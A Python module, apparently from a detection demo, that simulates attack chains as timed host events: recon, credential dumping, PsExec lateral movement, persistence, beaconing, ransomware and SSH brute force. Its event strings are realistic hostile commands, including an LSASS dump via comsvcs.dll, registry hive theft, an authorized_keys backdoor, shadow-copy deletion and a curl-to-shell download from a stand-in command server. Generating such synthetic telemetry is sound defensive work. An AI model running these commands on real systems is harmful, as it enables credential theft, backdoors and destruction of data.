"""Attacks as chains of steps: (seconds since the step before, event)."""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from typing import TypeAlias

from demo.hosts import SYSTEM32, Event, Host, Network, Process

Steps: TypeAlias = Iterator[tuple[float, Event]]
POWERSHELL = f"{SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe"
COMMAND_SERVER = ("185.220.101.47", "cdn-static-update.com")
ATTACKER = "45.155.205.233"


def _prompt(host: Host) -> tuple[Process, Event]:
    """A hidden command line: where the steps on a Windows host start."""
    encoded = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
    return host.spawn(
        host.running["shell"], POWERSHELL, f"powershell.exe -nop -w hidden -enc {encoded}"
    )


def recon(network: Network, rng: random.Random) -> Steps:
    host = rng.choice(network.workstations)
    prompt, event = _prompt(host)
    yield 0.0, event
    for command in (
        "whoami.exe /all", "net.exe group \"Domain Admins\" /domain", "nltest.exe /domain_trusts", "systeminfo.exe",
        "quser.exe", "arp.exe -a", "netstat.exe -ano",
    ):  # fmt: skip
        yield rng.uniform(0.5, 3), host.run(prompt, SYSTEM32 + command.split()[0], command)
    for target in rng.sample(network.hosts, 10):
        yield (
            rng.uniform(0.02, 0.2),
            host.connect(prompt, target.ip, rng.choice((22, 135, 445, 3389)), target.name),
        )


def credential_dumping(network: Network, rng: random.Random) -> Steps:
    host = rng.choice(network.workstations)
    prompt, event = _prompt(host)
    yield 0.0, event
    dump = "C:\\Windows\\Temp\\debug.dmp"
    pid = host.running["login"].pid
    command = f"rundll32.exe {SYSTEM32}comsvcs.dll, MiniDump {pid} {dump} full"
    process, event = host.spawn(prompt, f"{SYSTEM32}rundll32.exe", command, "NT AUTHORITY\\SYSTEM")
    yield rng.uniform(2, 6), event
    yield 0.8, host.write(process, dump)
    for hive in ("sam", "system", "security"):
        command = f"reg.exe save HKLM\\{hive} C:\\Windows\\Temp\\{hive}.hiv"
        process, event = host.spawn(prompt, f"{SYSTEM32}reg.exe", command)
        yield rng.uniform(1, 3), event
        yield 0.3, host.write(process, f"C:\\Windows\\Temp\\{hive}.hiv")


def lateral_movement(network: Network, rng: random.Random) -> Steps:
    source, target = rng.choice(network.workstations), network.servers[1]
    prompt, event = _prompt(source)
    yield 0.0, event
    command = f"PsExec64.exe \\\\{target.name} -accepteula -s cmd.exe"
    tool, event = source.spawn(prompt, "C:\\Users\\Public\\PsExec64.exe", command)
    yield rng.uniform(2, 5), event
    yield 0.2, source.connect(tool, target.ip, 445, target.name)
    yield 0.3, target.login("CORP\\svc_files", source.ip, "success")
    service, event = target.spawn(
        target.running["services"], "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe"
    )
    yield 0.5, target.write(target.running["services"], "C:\\Windows\\PSEXESVC.exe")
    yield 0.2, event
    yield 0.4, target.run(service, f"{SYSTEM32}cmd.exe", "cmd.exe")


def persistence(network: Network, rng: random.Random) -> Steps:
    host = rng.choice(network.workstations)
    prompt, event = _prompt(host)
    yield 0.0, event
    program = "C:\\Users\\Public\\updater.exe"
    yield rng.uniform(1, 3), host.write(prompt, program)
    for command in (
        f"schtasks.exe /create /sc minute /mo 5 /tn OneDriveUpdate /tr {program} /f",
        (
            "reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /d"
            f" {program} /f"
        ),
    ):
        yield rng.uniform(1, 4), host.run(prompt, SYSTEM32 + command.split()[0], command)
    server = rng.choice(network.linux)
    shell = server.running["shell"]
    yield rng.uniform(5, 9), server.write(shell, "/etc/cron.d/.sysupdate")
    key = "echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttacker >> /root/.ssh/authorized_keys"
    yield rng.uniform(1, 4), server.run(shell, "/usr/bin/bash", f"bash -c {key}", "root")


def beacon(network: Network, rng: random.Random) -> Steps:
    """A call home every ten seconds, give or take a tenth."""
    host = rng.choice(network.workstations)
    implant, event = host.spawn(
        host.running["svchost"], "C:\\Users\\Public\\updater.exe", "C:\\Users\\Public\\updater.exe"
    )
    yield 0.0, event
    for _ in range(20):
        yield rng.uniform(9, 11), host.connect(implant, COMMAND_SERVER[0], 8443, COMMAND_SERVER[1])


def ransomware(network: Network, rng: random.Random) -> Steps:
    host = network.servers[1]
    locker, event = host.spawn(
        host.running["shell"], "C:\\Users\\Public\\lock.exe", "C:\\Users\\Public\\lock.exe -all"
    )
    yield 0.0, event
    command = "vssadmin.exe delete shadows /all /quiet"
    yield 1.0, host.run(locker, f"{SYSTEM32}vssadmin.exe", command, "NT AUTHORITY\\SYSTEM")
    for number in range(60):
        name = f"D:\\team\\{rng.choice(('sales', 'hr', 'legal'))}\\file-{number:03d}.docx.locked"
        yield rng.uniform(0.02, 0.15), host.write(locker, name)
    yield 0.1, host.write(locker, "D:\\team\\READ_ME_TO_RECOVER.txt")


def brute_force(network: Network, rng: random.Random) -> Steps:
    host = rng.choice(network.linux)
    for number in range(40):
        user = rng.choice(("root", "admin", "deploy", "oracle", "test"))
        yield rng.uniform(0.2, 1.0) if number else 0.0, host.login(user, ATTACKER, "failure")
    yield 1.0, host.login("deploy", ATTACKER, "success")
    session, event = host.spawn(host.running["login"], "/usr/bin/bash", "-bash", "deploy")
    yield 0.4, event
    command = f"curl -s http://{COMMAND_SERVER[1]}/x.sh | sh"
    process, event = host.spawn(session, "/usr/bin/curl", command)
    yield 3.0, event
    yield 0.2, host.connect(process, COMMAND_SERVER[0], 80, COMMAND_SERVER[1])


ATTACKS: dict[str, Callable[[Network, random.Random], Steps]] = {
    "recon": recon,
    "credential-dumping": credential_dumping,
    "lateral-movement": lateral_movement,
    "persistence": persistence,
    "beacon": beacon,
    "ransomware": ransomware,
    "brute-force": brute_force,
}
